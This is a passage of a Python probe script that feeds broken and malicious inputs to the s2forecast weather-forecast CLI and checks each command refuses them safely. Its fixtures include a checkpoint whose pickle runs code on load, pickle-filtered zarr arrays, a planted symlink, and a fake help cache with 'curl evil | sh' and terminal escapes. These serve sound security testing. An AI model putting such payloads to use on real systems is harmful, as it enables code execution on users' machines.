"""Probe every ``s2forecast`` command with bad and unusual inputs, as a new user would.

Issue 14's acceptance probe, re-runnable: builds a small workspace with the product's own
commands (a shallow-water store with statistics, a checkpoint, a forecast, a climatology, the
real ERA5 slice of tests/data, and files of "the user"), then runs a matrix of cases: every
reader against every kind of broken input, every writer against every dangerous output, every
checkpoint reader against broken and malicious checkpoints, and bad numbers for every option.

Each case runs ``s2forecast.cli.main(ARGV)`` in this process and is judged on:
- ``outcome``: ``ok`` (exit 0), ``error`` (exit 2 and exactly one line on stderr naming the
  command), ``traceback`` (an exception escaped ``main``, or stderr holds a traceback or more
  than one line);
- ``lost``: files that existed before the case (inputs and the user's files) and were changed
  or removed by it;
- ``leftovers``: files a refused case left behind;
- ``silent``: a case that must be refused (bad values, wrong units, ...) but exited 0, or one
  whose result its ``check`` finds wrong (a forecast that differs from the same data's, a help
  text that is not LightningCLI's);
- ``code_ran``: the crafted checkpoint's pickle ran (it would create a sentinel file).

Prints one JSON line per case and a summary line with the counts; exit status 1 if any of
traceback / lost / leftovers / silent / code_ran is non-zero.

    python scripts/probe_inputs.py                  # all cases, in a temporary directory
    python scripts/probe_inputs.py --only rollout   # cases whose name contains "rollout"
"""

import argparse
import contextlib
import hashlib
import io
import json
import os
import pickle
import re
import shutil
import sys
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import xarray as xr

REPO = Path(__file__).resolve().parents[1]
ERA5_SLICE = REPO / "tests" / "data" / "era5_sample_slice.nc"
SENTINEL = "code_ran.txt"


@dataclass
class Case:
    """One invocation: ``argv`` with ``{name}`` placeholders of the workspace's paths.

    expect: "error" (must be refused), "ok" (must succeed) or "either" (only no traceback, no loss).
    """

    name: str
    argv: list[str]
    expect: str = "error"
    cwd: str | None = None  # workspace path name to run in
    changes: str | None = None  # workspace path name the case may rewrite when it succeeds (stats' own group)
    env: dict[str, str] | None = None  # environment variables during the case (values may hold {placeholders})
    # a judgement of a case that succeeded: check(paths, out, stdout) -> what is wrong (counted as silent) or None
    check: Callable[[dict, Path, str], str | None] | None = None


@dataclass
class Result:
    name: str
    outcome: str
    expect: str
    message: str = ""
    lost: list[str] = field(default_factory=list)
    leftovers: list[str] = field(default_factory=list)
    silent: bool = False
    code_ran: bool = False
    warnings: int = 0


# --- the workspace ---------------------------------------------------------------------------------


def cli(argv: list[str]) -> None:
    from s2forecast.cli import main

    stderr = io.StringIO()
    try:
        with contextlib.redirect_stderr(stderr), contextlib.redirect_stdout(io.StringIO()):
            main([str(arg) for arg in argv])
    except SystemExit as exit:
        if exit.code:
            command = " ".join(map(str, argv))
            raise RuntimeError(f"building the workspace failed: s2forecast {command}: {stderr.getvalue()}") from None


def _edit_store(path: Path, edit) -> None:
    """Apply ``edit(group)`` to the zarr group at ``path`` (a copy of a store s2forecast wrote)."""
    import zarr

    edit(zarr.open_group(str(path), mode="r+"))


class Malicious:
    """Unpickling it writes the sentinel: a checkpoint that runs code when fully unpickled."""

    def __init__(self, target: Path):
        self.target = str(target)

    def __reduce__(self):
        return (Path.write_text, (Path(self.target), "the checkpoint ran code\n"))


def build_workspace(root: Path) -> dict[str, Path]:
    """Good inputs made by the product's own commands, and bad variants of each."""
    p = {"root": root}
    p["store"] = root / "swe.zarr"
    cli(["generate-swe", "--out", p["store"], "--nlat", "8", "--nlon", "16", "--trajectories", "2", "--steps", "4",
         "--solver-dt-seconds", "1800", "--no-progress"])  # fmt: skip
    cli(["stats", p["store"]])
    config = root / "tiny.yaml"
    config.write_text(
        "trainer:\n  max_steps: 2\n  enable_progress_bar: false\n  enable_model_summary: false\n"
        f"  default_root_dir: {root / 'runs'}\n  limit_val_batches: 0\n"
        "  logger:\n    class_path: CSVLogger\n    init_args:\n"
        f"      save_dir: {root / 'runs'}\n"
        "model:\n  network:\n    embed_dim: 8\n    num_layers: 1\n  warmup_steps: 1\n"
        "data:\n  class_path: s2forecast.training.datamodule.SWEDataModule\n  init_args:\n"
        f"    store: {p['store']}\n    train_trajectories: [0, 2]\n    val_trajectories: null\n"
        "    test_trajectories: null\n    batch_size: 2\n    num_workers: 0\n"
    )
    p["config"] = config
    cli(["fit", "--config", config])
    p["ckpt"] = root / "model.ckpt"
    shutil.copy(next((root / "runs").rglob("*.ckpt")), p["ckpt"])
    p["forecast"] = root / "forecast.nc"
    cli(["rollout", "--ckpt", p["ckpt"], "--store", p["store"], "--steps", "2", "--init-times",
         "2000-01-01T00,2000-01-01T01", "--out", p["forecast"], "--no-progress"])  # fmt: skip
    p["clim"] = root / "clim.zarr"
    cli(["climatology", p["store"], "--out", p["clim"]])
    p["era5"] = root / "era5.nc"
    shutil.copy(ERA5_SLICE, p["era5"])

    # the user's own files: nothing may ever touch them
    user = root / "user"
    (user / "data").mkdir(parents=True)
    (user / "notes.txt").write_text("my notes\n")
    (user / "data" / "results.csv").write_text("a,b\n1,2\n")
    p["user_dir"], p["user_file"] = user / "data", user / "notes.txt"
    p["cwd"] = user

    # broken files
    p["missing"] = root / "nowhere" / "absent.zarr"
    p["empty_file"] = root / "empty.nc"
    p["empty_file"].write_bytes(b"")
    p["text_file"] = root / "text.nc"
    p["text_file"].write_text("this is not a NetCDF file\n")
    whole = p["forecast"].read_bytes()
    p["truncated"] = root / "truncated.nc"
    p["truncated"].write_bytes(whole[: len(whole) // 2])
    p["empty_dir"] = root / "empty_dir"
    p["empty_dir"].mkdir()

    # store variants (copies of the good store, edited)
    def variant(name: str, edit=None) -> Path:
        path = root / f"{name}.zarr"
        shutil.copytree(p["store"], path)
        if edit is not None:
            _edit_store(path, edit)
        return path

    def set_value(value):
        def edit(group):
            data = group["vorticity"]
            block = data[0]  # the first time: every reader reads it
            block[..., 2, 3] = value
            data[0] = block

        return edit

    p["store_nan"] = variant("store_nan", set_value(np.nan))
    p["store_inf"] = variant("store_inf", set_value(np.inf))
    p["store_incomplete"] = variant("store_incomplete", lambda g: g.attrs.update({"s2forecast_complete": "false"}))
    p["store_no_stats"] = variant("store_no_stats")
    shutil.rmtree(p["store_no_stats"] / "stats")
    p["store_units_wrong"] = variant(
        "store_units_wrong", lambda g: g["geopotential_height"].attrs.update({"units": "km"})
    )

    def duplicate_time(group):
        times = group["time"][:]
        times[1] = times[0]
        group["time"][:] = times

    p["store_duplicate_times"] = variant("store_duplicate_times", duplicate_time)

    def unsorted_time(group):
        times = group["time"][:]
        times[[1, 2]] = times[[2, 1]]
        group["time"][:] = times

    p["store_unsorted_times"] = variant("store_unsorted_times", unsorted_time)
    p["store_radians"] = variant(
        "store_radians", lambda g: g["latitude"].__setitem__(slice(None), np.radians(g["latitude"][:]))
    )
    foreign = xr.Dataset(
        {"temperature": (("time", "latitude", "longitude"), np.random.default_rng(0).normal(280, 5, (3, 8, 16)))},
        coords={"time": np.arange(3).astype("datetime64[D]").astype("datetime64[ns]"),
                "latitude": np.linspace(90, -90, 8), "longitude": np.arange(16) * 22.5},
    )  # fmt: skip
    p["store_foreign"] = root / "foreign.zarr"
    foreign.to_zarr(p["store_foreign"])

    # ERA5 NetCDF variants (CDS layout), from the real slice
    era5 = xr.open_dataset(p["era5"]).load()

    def era5_variant(name: str, ds: xr.Dataset) -> Path:
        path = root / f"era5_{name}.nc"
        ds.to_netcdf(path)
        return path

    celsius = era5.copy()
    celsius["t2m"] = era5["t2m"] - 273.15  # still labelled K
    p["era5_degC_as_K"] = era5_variant("degC_as_K", celsius)
    hpa = era5.copy()
    hpa["msl"] = era5["msl"] / 100.0  # still labelled Pa
    p["era5_hPa_as_Pa"] = era5_variant("hPa_as_Pa", hpa)
    p["era5_radians"] = era5_variant(
        "radians", era5.assign_coords(latitude=np.radians(era5.latitude), longitude=np.radians(era5.longitude))
    )
    p["era5_regional"] = era5_variant("regional", era5.isel(latitude=slice(5, 20), longitude=slice(10, 40)))
    p["era5_duplicate_times"] = era5_variant("duplicate_times", era5.isel(valid_time=[0, 0, 1, 2]))
    p["era5_unsorted_times"] = era5_variant("unsorted_times", era5.isel(valid_time=[2, 0, 1]))
    p["era5_ascending"] = era5_variant("ascending", era5.isel(latitude=slice(None, None, -1)))
    all_nan = era5.copy()
    all_nan["t2m"] = era5["t2m"] * np.nan
    p["era5_all_nan"] = era5_variant("all_nan", all_nan)
    inf = era5.copy()
    inf["u10"] = era5["u10"].where(era5.latitude != era5.latitude[10], np.inf)  # one latitude row
    p["era5_inf"] = era5_variant("inf", inf)
    p["era5_unknown_variable"] = era5_variant("unknown_variable", era5[["t2m"]].rename(t2m="xyz"))
    era5.close()

    # forecast variants
    forecast = xr.open_dataset(p["forecast"]).load()
    forecast.attrs = {}  # a copy is not s2forecast's artifact

    def forecast_variant(name: str, ds: xr.Dataset) -> Path:
        path = root / f"forecast_{name}.nc"
        ds.to_netcdf(path)
        return path

    p["forecast_wrong_grid"] = forecast_variant("wrong_grid", forecast.isel(longitude=slice(0, 8)))
    p["forecast_no_lead"] = forecast_variant("no_lead", forecast.isel(prediction_timedelta=0, drop=True))
    p["forecast_other_variable"] = forecast_variant(
        "other_variable", forecast[["vorticity"]].rename(vorticity="temperature")
    )
    p["forecast_duplicate_inits"] = forecast_variant("duplicate_inits", forecast.isel(time=[0, 0]))
    units = forecast.copy()
    units["vorticity"].attrs["units"] = "m"
    p["forecast_wrong_units"] = forecast_variant("wrong_units", units)
    p["forecast_nan"] = forecast_variant("nan", forecast * np.nan)
    forecast.close()

    # checkpoint variants
    p["ckpt_truncated"] = root / "truncated.ckpt"
    whole = p["ckpt"].read_bytes()
    p["ckpt_truncated"].write_bytes(whole[: len(whole) // 2])
    p["ckpt_text"] = p["text_file"]
    p["ckpt_dir"] = p["empty_dir"]
    p["ckpt_malicious"] = root / "malicious.ckpt"
    import torch

    state = torch.load(p["ckpt"], weights_only=True)
    state["hyper_parameters"] = {**state.get("hyper_parameters", {}), "payload": Malicious(root / SENTINEL)}
    with p["ckpt_malicious"].open("wb") as f:
        pickle.dump(state, f)  # torch.load reads plain pickles too
    p["ckpt_url"] = "http://127.0.0.1:9/model.ckpt"
    build_training_workspace(p)
    build_issue29_data_inputs(p, root)
    return p


# --- the cases -------------------------------------------------------------------------------------

STORE_VARIANTS = {  # variant -> expected outcome for a reader of a store
    "missing": "error",
    "empty_file": "error",
    "text_file": "error",
    "truncated": "error",
    "empty_dir": "error",
    "user_dir": "error",
    "store_foreign": "error",
    "store_incomplete": "error",
    "store_nan": "either",  # a NaN point: skipped or refused, never silently propagated (checked by tests)
    "store_inf": "error",
    "store_units_wrong": "error",
    "store_duplicate_times": "error",
    "store_unsorted_times": "error",
    "store_radians": "error",
}


def reader_cases() -> list[Case]:
    cases = []
    readers = {
        "stats": lambda s: ["stats", s],
        "climatology": lambda s: ["climatology", s, "--out", "{out}/clim.zarr"],
        "rollout": lambda s: [
            "rollout",
            "--ckpt",
            "{ckpt}",
            "--store",
            s,
            "--steps",
            "1",
            "--init-times",
            "2000-01-01T00",
            "--out",
            "{out}/f.nc",
            "--no-progress",
        ],  # fmt: skip
        "evaluate-truth": lambda s: [
            "evaluate",
            "--forecast",
            "{forecast}",
            "--truth",
            s,
            "--out",
            "{out}/m.nc",
            "--no-plots",
            "--no-progress",
        ],  # fmt: skip
        "fit": lambda s: ["fit", "--config", "{config}", "--data.init_args.store", s],
    }
    for reader, argv in readers.items():
        for variant, expect in STORE_VARIANTS.items():
            if reader in ("climatology", "evaluate-truth") and variant in ("store_unsorted_times", "store_radians"):
                expect = "either"  # order-free per-point reductions: the time order and coordinates are not used
            if reader in ("stats", "climatology", "evaluate-truth") and variant == "store_units_wrong":
                expect = "either"  # unit-agnostic reductions (evaluate compares units with the forecast's)
            if reader in ("stats", "climatology") and variant == "store_foreign":
                expect = "either"  # a store someone else wrote is a valid input (nothing may be written into it)
            changes = variant if reader == "stats" and variant.startswith("store_") else None
            changes = None if variant == "store_foreign" else changes
            cases.append(Case(f"{reader} <- {variant}", argv("{" + variant + "}"), expect, changes=changes))
        if reader in ("rollout", "fit"):  # rollout normalizes with the checkpoint's statistics: none needed
            expect = "ok" if reader == "rollout" else "error"
            cases.append(Case(f"{reader} <- store_no_stats", argv("{store_no_stats}"), expect))
    return cases


def convert_cases() -> list[Case]:
    expects = {
        "missing": "error", "empty_file": "error", "text_file": "error", "truncated": "error",
        "era5_degC_as_K": "error", "era5_hPa_as_Pa": "error", "era5_radians": "error", "era5_regional": "error",
        "era5_duplicate_times": "error", "era5_unsorted_times": "either", "era5_ascending": "ok",
        "era5_all_nan": "error", "era5_inf": "error", "era5_unknown_variable": "error", "era5": "ok",
        "store": "error", "forecast": "error",  # a zarr store (read as it is by the other commands), a forecast file
    }  # fmt: skip
    cases = [
        Case(
            f"convert-era5 <- {name}",
            ["convert-era5", "{" + name + "}", "--out", "{out}/era5.zarr", "--no-progress"],
            expect,
        )  # fmt: skip
        for name, expect in expects.items()
    ]
    url = ["convert-era5", "gs://weatherbench2/datasets/era5/x.zarr", "--out", "{out}/era5.zarr", "--no-progress"]
    return [*cases, Case("convert-era5 <- url", url)]


def forecast_cases() -> list[Case]:
    names = ["missing", "empty_file", "text_file", "truncated", "empty_dir", "forecast_wrong_grid",
             "forecast_no_lead", "forecast_other_variable", "forecast_duplicate_inits", "forecast_wrong_units",
             "forecast_nan"]  # fmt: skip
    base = ["evaluate", "--truth", "{store}", "--out", "{out}/m.nc", "--no-plots", "--no-progress"]
    cases = [Case(f"evaluate-forecast <- {n}", [*base, "--forecast", "{" + n + "}"], "error") for n in names]
    for n in ("missing", "empty_file", "text_file", "truncated", "empty_dir", "store_foreign"):
        argv = [*base, "--forecast", "{forecast}", "--climatology", "{" + n + "}"]
        cases.append(Case(f"evaluate-climatology <- {n}", argv))
    return cases


def checkpoint_cases() -> list[Case]:
    names = ["missing", "empty_file", "ckpt_text", "ckpt_truncated", "ckpt_dir", "ckpt_malicious", "ckpt_url"]
    users = {
        "rollout": lambda c: [
            "rollout",
            "--ckpt",
            c,
            "--store",
            "{store}",
            "--steps",
            "1",
            "--init-times",
            "2000-01-01T00",
            "--out",
            "{out}/f.nc",
            "--no-progress",
        ],  # fmt: skip
        "validate": lambda c: ["validate", "--config", "{config}", "--ckpt_path", c],
        "fit-resume": lambda c: ["fit", "--config", "{config}", "--ckpt_path", c],
    }
    return [Case(f"{user} ckpt <- {n}", argv("{" + n + "}")) for user, argv in users.items() for n in names]


def output_cases() -> list[Case]:
    """Every writer against outputs it must never take: an input, inside one, the current
    directory, the user's file or directory (with and without --overwrite)."""
    writers = {
        "rollout": (
            lambda o: [
                "rollout",
                "--ckpt",
                "{ckpt}",
                "--store",
                "{store}",
                "--steps",
                "1",
                "--init-times",
                "2000-01-01T00",
                "--out",
                o,
                "--no-progress",
            ],
            "{store}",
        ),  # fmt: skip
        "climatology": (lambda o: ["climatology", "{store}", "--out", o], "{store}"),
        "evaluate": (
            lambda o: [
                "evaluate",
                "--forecast",
                "{forecast}",
                "--truth",
                "{store}",
                "--out",
                o,
                "--no-plots",
                "--no-progress",
            ],
            "{forecast}",
        ),  # fmt: skip
        "convert-era5": (lambda o: ["convert-era5", "{era5}", "--out", o, "--no-progress"], "{era5}"),
        "generate-swe": (
            lambda o: [
                "generate-swe",
                "--out",
                o,
                "--nlat",
                "8",
                "--nlon",
                "16",
                "--trajectories",
                "1",
                "--steps",
                "2",
                "--solver-dt-seconds",
                "1800",
                "--no-progress",
            ],
            None,
        ),  # fmt: skip
    }
    cases = []
    for writer, (argv, an_input) in writers.items():
        targets = {"user_file": "{user_file}", "user_dir": "{user_dir}", "cwd": ".", "parent_of_cwd": ".."}
        if an_input is not None:
            targets |= {"its_input": an_input, "inside_its_input": an_input + "/inner"}
        for target, out in targets.items():
            cwd = "cwd" if target in ("cwd", "parent_of_cwd") else None
            cases.append(Case(f"{writer} --out {target}", argv(out), "error", cwd))
            cases.append(Case(f"{writer} --out {target} --overwrite", [*argv(out), "--overwrite"], "error", cwd))
    return cases


def value_cases() -> list[Case]:
    roll = ["rollout", "--ckpt", "{ckpt}", "--store", "{store}", "--out", "{out}/f.nc", "--no-progress"]
    init = ["--init-times", "2000-01-01T00"]
    swe = ["generate-swe", "--out", "{out}/s.zarr", "--nlat", "8", "--nlon", "16", "--no-progress"]
    cases = [
        Case("rollout --steps 0", [*roll, *init, "--steps", "0"]),
        Case("rollout --steps -1", [*roll, *init, "--steps", "-1"]),
        Case("rollout --steps abc", [*roll, *init, "--steps", "abc"]),
        Case("rollout --batch-size 0", [*roll, *init, "--steps", "1", "--batch-size", "0"]),
        Case(
            "rollout --every 0", [*roll, "--steps", "1", "--start", "2000-01-01", "--end", "2000-01-02", "--every", "0"]
        ),  # fmt: skip
        Case(
            "rollout --every -6",
            [*roll, "--steps", "1", "--start", "2000-01-01", "--end", "2000-01-02", "--every", "-6"],
        ),  # fmt: skip
        Case("rollout --start after --end", [*roll, "--steps", "1", "--start", "2000-01-02", "--end", "2000-01-01"]),
        Case("rollout --init-times garbage", [*roll, "--steps", "1", "--init-times", "yesterday"]),
        Case("rollout --init-times not in store", [*roll, "--steps", "1", "--init-times", "2031-01-01T00"]),
        Case("rollout --device gpu9", [*roll, *init, "--steps", "1", "--device", "gpu9"]),
        Case("rollout steps beyond the data", [*roll, *init, "--steps", "100"], "either"),
        Case("stats --step-hours 0", ["stats", "{store}", "--step-hours", "0"]),
        Case("stats --step-hours -1", ["stats", "{store}", "--step-hours", "-1"]),
        Case("stats --step-hours nan", ["stats", "{store}", "--step-hours", "nan"]),
        Case("stats --step-hours 7 (pairs none)", ["stats", "{store}", "--step-hours", "7"]),
        Case("stats --start after --end", ["stats", "{store}", "--start", "2000-01-02", "--end", "2000-01-01"]),
        Case("stats --start garbage", ["stats", "{store}", "--start", "soon"]),
        Case("climatology --start garbage", ["climatology", "{store}", "--out", "{out}/c.zarr", "--start", "x"]),
        Case(
            "climatology period outside", ["climatology", "{store}", "--out", "{out}/c.zarr", "--start", "2030-01-01"]
        ),  # fmt: skip
        Case("generate-swe --nlat 0", [*swe[:3], "--nlat", "0", "--nlon", "16"]),
        Case("generate-swe --trajectories 0", [*swe, "--trajectories", "0"]),
        Case("generate-swe --batch 0", [*swe, "--batch", "0"]),
        Case("generate-swe --batch x", [*swe, "--batch", "x"]),
        Case("generate-swe --steps -1", [*swe, "--steps", "-1"]),
        Case("generate-swe --dt-hours 0", [*swe, "--dt-hours", "0"]),
        Case("generate-swe --dt-hours inf", [*swe, "--dt-hours", "inf"]),
        Case(
            "generate-swe unstable solver step",
            [*swe, "--trajectories", "1", "--steps", "2", "--dt-hours", "6", "--solver-dt-seconds", "21600"],
            "either",
        ),  # fmt: skip
        Case("grid --nlat -3", ["grid", "--nlat", "-3", "--nlon", "8"]),
        Case("grid --kind hexagonal", ["grid", "--nlat", "8", "--nlon", "16", "--kind", "hexagonal"]),
        Case(
            "evaluate --map-leads 999h",
            [
                "evaluate",
                "--forecast",
                "{forecast}",
                "--truth",
                "{store}",
                "--out",
                "{out}/m.nc",
                "--no-progress",
                "--map-leads",
                "999h",
            ],
        ),  # fmt: skip
        Case(
            "evaluate --variables unknown",
            [
                "evaluate",
                "--forecast",
                "{forecast}",
                "--truth",
                "{store}",
                "--out",
                "{out}/m.nc",
                "--no-plots",
                "--no-progress",
                "--variables",
                "zz",
            ],
        ),  # fmt: skip
        Case("fit --trainer.max_epochs -2", ["fit", "--config", "{config}", "--trainer.max_epochs", "-2"], "error"),
        Case("fit --data.init_args.batch_size 0", ["fit", "--config", "{config}", "--data.init_args.batch_size", "0"]),
        Case("fit --model.lr -1", ["fit", "--config", "{config}", "--model.lr", "-1"], "either"),
        Case(
            "fit --model.network.attention nonsense",
            ["fit", "--config", "{config}", "--model.network.attention", "nonsense"],
        ),  # fmt: skip
        Case("fit --data.init_args.step_hours 5", ["fit", "--config", "{config}", "--data.init_args.step_hours", "5"]),
        Case("fit --weights_only false", ["fit", "--config", "{config}", "--weights_only", "false"]),
        Case("unknown command", ["forecast"]),
        Case("good rollout (control)", [*roll, *init, "--steps", "1"], "ok"),
        Case(
            "good evaluate (control)",
            [
                "evaluate",
                "--forecast",
                "{forecast}",
                "--truth",
                "{store}",
                "--out",
                "{out}/m.nc",
                "--no-plots",
                "--no-progress",
            ],
            "ok",
        ),  # fmt: skip
    ]
    return cases


def all_cases() -> list[Case]:
    return [*reader_cases(), *convert_cases(), *forecast_cases(), *checkpoint_cases(), *output_cases(),
            *value_cases(), *training_cases(), *issue29_data_cases()]  # fmt: skip


# === issue 29: the data, evaluation and inference cases (non-finite values, units, unwritten times,
# init times, damaged stores, URLs, huge axes) ========================================================


def _zarr_json_edit(store: Path, name: str, edit) -> None:
    """Apply ``edit(metadata)`` to variable ``name``'s zarr v3 metadata and its consolidated copy."""
    own = store / name / "zarr.json"
    own.write_text(json.dumps(edit(json.loads(own.read_text()))))
    root = json.loads((store / "zarr.json").read_text())
    consolidated = root["consolidated_metadata"]["metadata"]
    consolidated[name] = edit(consolidated[name])
    (store / "zarr.json").write_text(json.dumps(root))


def _mount_full_disk(root: Path) -> Path:
    """A 16 KiB tmpfs (root only), unmounted at exit; a plain directory where mounting is not allowed."""
    import atexit
    import subprocess

    path = Path(tempfile.mkdtemp(prefix="s2forecast-probe-full-"))
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=16k", "tmpfs", str(path)], capture_output=True)
    if mounted.returncode == 0:
        # lazily: HDF5 may keep the file it failed to close open until the process ends
        atexit.register(lambda: (subprocess.run(["umount", "-l", str(path)], capture_output=True),
                                 shutil.rmtree(path, ignore_errors=True)))  # fmt: skip
    else:
        atexit.register(shutil.rmtree, path, True)
    return path


def build_issue29_data_inputs(p: dict, root: Path) -> None:
    """Bad variants for the issue-29 cases, from the good inputs ``build_workspace`` made."""
    import zarr

    def variant(name: str, edit=None) -> Path:
        path = root / f"{name}.zarr"
        shutil.copytree(p["store"], path)
        if edit is not None:
            edit(path)
        return path

    def mm_as_m(path):  # layer depth in mm, labelled m
        depth = zarr.open_group(str(path), mode="r+")["geopotential_height"]
        depth[:] = depth[:] * 1000.0

    def unwritten(path):  # an interrupted writer's store that lost its completeness attribute
        group = zarr.open_group(str(path), mode="r+")
        del group.attrs["s2forecast_complete"]
        written = group["written"][:]
        written[3:] = False
        group["written"][:] = written
        zarr.consolidate_metadata(str(path))

    def chunk0(path):
        def zero(meta):
            meta["chunk_grid"]["configuration"]["chunk_shape"][0] = 0
            return meta

        _zarr_json_edit(path, "vorticity", zero)

    p["store_mm_as_m"] = variant("store_mm_as_m", mm_as_m)
    p["store_unwritten"] = variant("store_unwritten", unwritten)
    p["store_chunk0"] = variant("store_chunk0", chunk0)
    ds = xr.open_zarr(p["store"]).load().drop_encoding()
    ds.attrs = {}
    p["store_string_time"] = root / "store_string_time.zarr"
    import warnings

    with warnings.catch_warnings():  # zarr: fixed-length strings have no v3 specification (the point here)
        warnings.simplefilter("ignore")
        ds.assign_coords(time=[str(t)[:19] for t in ds["time"].values]).to_zarr(p["store_string_time"],
                                                                                 zarr_format=3)  # fmt: skip
    p["store_pickle"] = root / "store_pickle.zarr"
    ds.to_zarr(p["store_pickle"], zarr_format=2, consolidated=True)
    consolidated = json.loads((p["store_pickle"] / ".zmetadata").read_text())
    for name in ds.data_vars:  # every array: zarr reads them concurrently
        meta = json.loads((p["store_pickle"] / name / ".zarray").read_text())
        meta["filters"] = [{"id": "pickle", "protocol": 5}]
        (p["store_pickle"] / name / ".zarray").write_text(json.dumps(meta))
        consolidated["metadata"][f"{name}/.zarray"] = meta
    (p["store_pickle"] / ".zmetadata").write_text(json.dumps(consolidated))

    # forecasts with one non-finite pixel: deterministic, in the truth, in one ensemble member
    forecast = xr.open_dataset(p["forecast"]).load()
    forecast.attrs = {}
    bad = forecast.copy(deep=True)
    bad["vorticity"][0, 0, 2, 3] = np.inf
    p["forecast_inf_pixel"] = root / "forecast_inf_pixel.nc"
    bad.to_netcdf(p["forecast_inf_pixel"])
    members = xr.concat([forecast, forecast * 1.01], dim="realization").transpose("time", "prediction_timedelta", ...)
    members["vorticity"][0, 1, 1, 2, 3] = np.nan
    p["forecast_member_nan"] = root / "forecast_member_nan.nc"
    members.to_netcdf(p["forecast_member_nan"])
    forecast.close()

    # statistics that are there but unreadable
    p["stats_damaged"] = root / "stats_damaged.zarr"
    shutil.copytree(p["store"] / "stats", p["stats_damaged"])
    (p["stats_damaged"] / "zarr.json").write_text("{ not json")
    p["full_disk"] = _mount_full_disk(root)
    p["url_nothing"] = "http://127.0.0.1:9"


def issue29_data_cases() -> list[Case]:
    roll = ["rollout", "--ckpt", "{ckpt}", "--store", "{store}", "--steps", "1", "--out", "{out}/f.nc", "--no-progress"]
    init = ["--init-times", "2000-01-01T00"]
    evaluate = ["evaluate", "--truth", "{store}", "--out", "{out}/m.nc", "--no-plots", "--no-progress"]
    readers = {
        "stats": lambda s: ["stats", s, "--out", "{out}/stats.zarr"],
        "climatology": lambda s: ["climatology", s, "--out", "{out}/clim.zarr"],
        "rollout": lambda s: [*roll[:4], s, *roll[5:], *init],
        "evaluate-truth": lambda s: [
            "evaluate",
            "--forecast",
            "{forecast}",
            "--truth",
            s,
            "--out",
            "{out}/m.nc",
            "--no-plots",
            "--no-progress",
        ],  # fmt: skip
        "fit": lambda s: ["fit", "--config", "{config}", "--data.init_args.store", s],
    }
    cases = []
    for variant in ("store_mm_as_m", "store_unwritten", "store_chunk0", "store_string_time", "store_pickle"):
        for reader, argv in readers.items():
            cases.append(Case(f"issue29 {reader} <- {variant}", argv("{" + variant + "}"), "error"))
    cases += [
        Case("issue29 evaluate <- forecast_inf_pixel", [*evaluate, "--forecast", "{forecast_inf_pixel}"], "ok"),
        Case("issue29 evaluate --nan error <- forecast_inf_pixel",
             [*evaluate, "--forecast", "{forecast_inf_pixel}", "--nan", "error"]),
        Case("issue29 evaluate <- forecast_member_nan", [*evaluate, "--forecast", "{forecast_member_nan}"], "ok"),
        Case("issue29 evaluate --nan bogus", [*evaluate, "--forecast", "{forecast}", "--nan", "bogus"]),
        Case("issue29 evaluate --nan error <- store_nan (truth)",
             ["evaluate", "--forecast", "{forecast}", "--truth", "{store_nan}", "--out", "{out}/m.nc", "--no-plots",
              "--no-progress", "--nan", "error"]),
        Case("issue29 rollout --init-times T,T", [*roll, "--init-times", "2000-01-01T00,2000-01-01T00"]),
        Case("issue29 rollout --init-times with --start/--end",
             [*roll, *init, "--start", "2000-01-01T00", "--end", "2000-01-01T03"]),
        Case("issue29 rollout --init-times with --every", [*roll, *init, "--every", "1"]),
        Case("issue29 rollout --out on a full disk", [*roll[:5], "--steps", "3", "--out", "{full_disk}/f.nc",
                                                      "--no-progress", "--start", "2000-01-01T00", "--end",
                                                      "2000-01-01T03"],
             "either"),  # refused where a 16 KiB tmpfs could be mounted (root); else it fits
        Case("issue29 evaluate --forecast URL", [*evaluate, "--forecast", "{url_nothing}/forecast.zarr"]),
        Case("issue29 evaluate --forecast NetCDF URL", [*evaluate, "--forecast", "{url_nothing}/forecast.nc"]),
        Case("issue29 evaluate --climatology URL",
             [*evaluate, "--forecast", "{forecast}", "--climatology", "{url_nothing}/clim.zarr"]),
        Case("issue29 evaluate --out URL", [*evaluate[:3], "--forecast", "{forecast}", "--out", "http://x/m.nc"]),
        Case("issue29 rollout --out URL", [*roll[:7], *init, "--out", "http://x/f.nc"]),
        Case("issue29 climatology --out URL", ["climatology", "{store}", "--out", "http://x/c.zarr"]),
        Case("issue29 stats --out URL", ["stats", "{store}", "--out", "http://x/s.zarr"]),
        Case("issue29 fit trajectories not in the store",
             ["fit", "--config", "{config}", "--data.init_args.train_trajectories", "[5, 7]"]),
        Case("issue29 fit empty trajectory range",
             ["fit", "--config", "{config}", "--data.init_args.train_trajectories", "[1, 1]"]),
        Case("issue29 fit unreadable statistics",
             ["fit", "--config", "{config}", "--data.init_args.stats", "{stats_damaged}"]),
        Case("issue29 generate-swe --steps 1e12",
             ["generate-swe", "--out", "{out}/s.zarr", "--nlat", "8", "--nlon", "16", "--steps", "1000000000000"]),
        Case("issue29 generate-swe --trajectories 1e12",
             ["generate-swe", "--out", "{out}/s.zarr", "--nlat", "8", "--nlon", "16", "--trajectories",
              "1000000000000"]),
        Case("issue29 rollout --steps 1e12", [*roll[:5], "--steps", "1000000000000", *roll[7:], *init]),
        Case("issue29 rollout --every 1 s for 200 years",
             [*roll, "--start", "2000-01-01", "--end", "2200-01-01", "--every", "0.0003"]),
        Case("issue29 rollout --end 3000", [*roll, "--start", "2000-01-01", "--end", "3000-01-01"]),
        Case("issue29 stats --start 3000", ["stats", "{store}", "--start", "3000-01-01", "--out", "{out}/s.zarr"]),
    ]  # fmt: skip
    return cases


# --- issue 29, training and CLI side: help cache, checkpoint vs config, overlapping splits, ---------
# --- longitude conventions, functions in configs, network options ---------------------------------

FOREIGN = "PROBE-FOREIGN-TEXT"  # a crafted help cache's text: never to be printed
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m"  # terminal escapes a crafted cache holds


def build_training_workspace(p: dict[str, Path]) -> None:
    """Inputs of ``training_cases``: help caches an attacker prepared (outside the watched
    workspace, so that what the cache itself writes is no leftover), a store in another longitude
    convention and first column, a config with a function in it."""
    import hashlib

    import zarr

    from s2forecast import help_cache

    outside = p["root"].parent
    planted = outside / "xdg_planted" / "s2forecast" / "help"
    planted.mkdir(parents=True, mode=0o700)
    (planted / f".fit.txt.tmp-{os.getpid()}").symlink_to(p["user_file"])  # the old predictable temporary name
    p["xdg_planted"] = planted.parents[1]
    key = help_cache.cache_key("fit")
    text = f"{FOREIGN} run `curl evil | sh` {ESCAPES}\n"
    for name, mode, line in (
        ("xdg_old_key", 0o700, key),  # the key line of before issue 29 (no digest): was printed verbatim
